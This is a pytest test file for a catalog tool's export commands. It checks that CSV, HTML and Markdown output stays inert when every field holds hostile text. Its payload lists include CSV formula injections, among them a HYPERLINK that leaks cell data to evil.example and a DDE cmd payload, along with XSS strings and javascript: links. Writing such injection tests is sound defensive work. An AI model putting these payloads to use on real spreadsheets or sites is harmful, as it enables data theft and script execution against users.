"""Exports cannot hurt their readers: CSV formulas are inert, HTML and Markdown are escaped.

A catalog whose every text field holds hostile text is exported through the
real CLI. A hostile export must have exactly the structure (elements and
attribute names) of the export of a "benign twin", the same catalog with
every other visible character replaced by ``a`` (white space and the
bullets ``-``, ``*``, ``•`` a summary's lists start with are kept): no text can add a tag, an
attribute, a link or a script. Markdown is judged by what a CommonMark
renderer (markdown-it-py, raw HTML on) makes of it.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from htcat.errors import InvalidEntry
from htcat.formats import write_entries
from htcat.model import validate_entry
from htcat.tags import normalize_tags

from .harness import make_catalog, run

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=already quoted",
    "''+twice",
    "=",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</noscript><script>alert(1)</script>",
    "</textarea></title></style></script><b>bold</b>",
    "<!-- comment -->",
    "&lt;already escaped&gt; &amp; &#x3C;script&#x3E;",
    '<a href="javascript:alert(1)">x</a>',
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "# heading",
    "## heading",
    "- item",
    "* item",
    "+ item",
    "1. one",
    "1) one",
    "> quote",
    "```\ncode\n```",
    "~~~",
    "    indented code",
    "---",
    "text\n===",
    "***",
    "___",
    "[link](javascript:alert(1))",
    "![img](http://evil.example/x.png)",
    "<http://evil.example>",
    "[x]: http://evil.example",
    "| a | b |\n|---|---|",
    "back\\slash\\",
    "`code`",
    "*emphasis* _emphasis_ ~~strike~~",
    "[^1]",
    "line  \nbreak",
    "http://autolink.example www.autolink.example",
    "<details open ontoggle=alert(1)>",
    "\u202eevil right-to-left\u200b zero\ufeffwidth",
    "semi;colon|pipe\\back",
    "paragraph one\n\nparagraph two",
]
HOSTILE_URLS = [
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/?a=<b>&c='d'",
    "https://example.org/)](javascript:alert(1))",
    "https://example.org/{{7*7}}",
]
VISIBLE = re.compile(r"[^\s*•-]")
"""What the benign twin replaces: all but white space and the bullets summaries may start with."""


def one_line(text: str) -> str:
    return " ".join(text.split()) or "x"


def hostile_entries() -> list[dict[str, Any]]:
    return [
        {
            "id": f"hostile-{n}",
            "title": one_line(text),
            "type": "report",
            "date": "2024",
            "summary": text,
            "publisher": one_line(text),
            "tags": [one_line(text)],
            "audiences": [one_line(text)],
            "people": [{"name": one_line(text), "role": "author", "affiliation": one_line(text)}],
            "links": [
                {
                    "url": unique_url(HOSTILE_URLS[n % len(HOSTILE_URLS)], n),
                    "label": one_line(text),
                    "kind": "pdf",
                }
            ],
            "notes": text,
        }
        for n, text in enumerate(HOSTILE_TEXTS)
    ]


def unique_url(url: str, n: int) -> str:
    return f"{url}{'&' if '?' in url else '?'}n={n}"


def benign(value: Any, key: str = "") -> Any:
    """The same shape in harmless text: summaries and notes keep their white space and
    bullets, every other text becomes a distinct word (so that lists of tags and
    publishers group as they did), URLs stay valid."""
    if isinstance(value, str):
        digest = hashlib.sha256(value.encode()).hexdigest()
        if value.startswith("https://"):
            return f"https://example.org/{digest}"
        if key in ("summary", "notes"):
            return VISIBLE.sub("a", value)
        return "w" + digest[:16]
    if isinstance(value, list):
        if key == "tags":  # a hostile tag holding commas is stored as the tags it lists
            value = normalize_tags(value)
        return [benign(v, key) for v in value]
    if isinstance(value, dict):
        keep = ("id", "type", "date", "role", "kind")
        return {k: v if k in keep else benign(v, k) for k, v in value.items()}
    return value


class Structure(HTMLParser):
    """The elements and attribute names of an HTML document, in order, and every URL."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.urls: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(name for name, _ in attrs)))
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"{tag} {name}")
            if name in ("href", "src", "action") and value is not None:
                self.urls.append(value)

    def handle_endtag(self, tag: str) -> None:
        self.shape.append(("/" + tag, ()))


def structure(html: str) -> Structure:
    parser = Structure()
    parser.feed(html)
    parser.close()
    return parser


def render_markdown(text: str) -> str:
    return MarkdownIt("commonmark").render(text)


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str]]:
    """Each format's export of the hostile catalog and of its benign twin, by the real CLI."""
    folder = tmp_path_factory.mktemp("exports")
    hostile = make_catalog(folder / "hostile.json", hostile_entries())
    twin = make_catalog(folder / "benign.json", [benign(e) for e in hostile_entries()])
    found = {}
    for fmt in ("csv", "markdown", "html"):
        texts = []
        for db in (hostile, twin):
            ran = run(db, "export", "--format", fmt, "--include-internal")
            assert ran.code == 0, ran
            texts.append(ran.out)
        found[fmt] = (texts[0], texts[1])
    ran = run(hostile, "list", "--format", "csv")
    assert ran.code == 0, ran
    found["list csv"] = (ran.out, "")
    return found


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "list csv"])
def test_no_csv_cell_can_run_as_a_formula(exports: dict[str, tuple[str, str]], fmt: str) -> None:
    found = cells(exports[fmt][0])
    assert len(found) > 10 * len(HOSTILE_TEXTS)
    live = [cell for cell in found if cell.startswith(FORMULA_STARTS)]
    assert not live
    assert any(cell.startswith("'=HYPERLINK") for cell in found)


def test_the_csv_export_reads_back_as_the_same_text(
    exports: dict[str, tuple[str, str]], tmp_path: Path
) -> None:
    """Neutralizing is undone on import: the spreadsheet-safe file still round-trips."""
    (tmp_path / "export.csv").write_text(exports["csv"][0])
    db = make_catalog(tmp_path / "again.json", [])
    ran = run(db, "import", str(tmp_path / "export.csv"))
    assert ran.code == 0, ran
    back = run(db, "export", "--format", "csv", "--include-internal")
    assert back.out == exports["csv"][0]


def test_html_export_has_the_structure_of_its_benign_twin(
    exports: dict[str, tuple[str, str]],
) -> None:
    hostile, twin = (structure(text) for text in exports["html"])
    assert hostile.shape == twin.shape
    assert hostile.handlers == twin.handlers == []
    for url in hostile.urls:
        assert re.match(r"(https?://|#|$)", url, re.IGNORECASE), url
    assert "<script>alert(1)" not in exports["html"][0]


def test_markdown_export_renders_to_the_structure_of_its_benign_twin(
    exports: dict[str, tuple[str, str]],
) -> None:
    hostile, twin = (structure(render_markdown(text)) for text in exports["markdown"])
    assert [s for s in hostile.shape if s not in twin.shape] == []
    assert hostile.shape == twin.shape
    assert not hostile.handlers
    for url in hostile.urls:
        assert re.match(r"https?://", url, re.IGNORECASE), url


def test_markdown_export_keeps_every_title_as_literal_text(
    exports: dict[str, tuple[str, str]],
) -> None:
    text = " ".join(_text_of(render_markdown(exports["markdown"][0])).split())
    for title in HOSTILE_TEXTS:
        assert one_line(title) in text, title


def _text_of(html: str) -> str:
    parts: list[str] = []
    parser = HTMLParser(convert_charrefs=True)
    parser.handle_data = parts.append  # type: ignore[method-assign]
    parser.feed(html)
    return " ".join(parts)


single_line = st.text(
    st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=60
).filter(lambda t: t.strip())
multi_line = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\x0b\x0c\r\x7f"),
    max_size=200,
).filter(lambda t: not re.search("[\x00-\x08\x0b-\x1f\x7f]", t))


@pytest.mark.slow
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=single_line, summary=multi_line, tag=single_line, label=single_line)
def test_any_text_exports_inert(title: str, summary: str, tag: str, label: str) -> None:
    raw = {
        "id": "any",
        "title": title,
        "type": "report",
        "summary": summary,
        "publisher": title,
        "tags": [tag],
        "links": [{"url": "https://example.org/x.pdf", "label": label, "kind": "pdf"}],
    }
    try:
        entry = validate_entry(raw)
    except InvalidEntry:
        return
    twin = validate_entry(benign(raw))

    csv_cells = cells(write_entries([entry], "csv").decode())
    assert not [c for c in csv_cells if c.startswith(FORMULA_STARTS)]

    hostile_md, twin_md = (
        structure(render_markdown(write_entries([e], "markdown").decode())) for e in (entry, twin)
    )
    assert hostile_md.shape == twin_md.shape
    assert hostile_md.urls == ["https://example.org/x.pdf"]

    hostile_html, twin_html = (
        structure(write_entries([e], "html").decode()) for e in (entry, twin)
    )
    assert hostile_html.shape == twin_html.shape
    assert not hostile_html.handlers
